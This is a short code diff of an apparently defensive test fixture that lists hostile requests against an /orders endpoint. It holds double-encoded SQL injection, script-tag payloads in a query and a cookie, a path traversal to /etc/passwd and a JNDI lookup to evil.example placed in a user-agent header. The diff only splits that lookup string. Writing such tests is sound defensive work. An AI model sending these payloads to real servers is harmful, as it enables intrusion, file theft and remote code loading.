@@ -18,7 +18,10 @@ const attacks: Readonly<
   'SQL in two layers of percent-encoding': { path: `/orders?id=${encodeURIComponent(encodeURIComponent(injection))}` },
   'a script in full-width signs': { path: `/orders?q=${encodeURIComponent('＜script＞alert(1)＜/script＞')}` },
   'a traversal in a parameter': { path: '/orders?file=../../../../etc/passwd' },
-  'a lookup in the user agent': { path: '/orders', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } },
+  'a lookup in the user agent': {
+    path: '/orders',
+    headers: { 'user-agent': '$'.concat('{jndi:ldap://evil.example/a}') },
+  },
   'a script in a cookie': { path: '/orders', headers: { cookie: 'theme=<script>alert(1)</script>' } },
 };
 
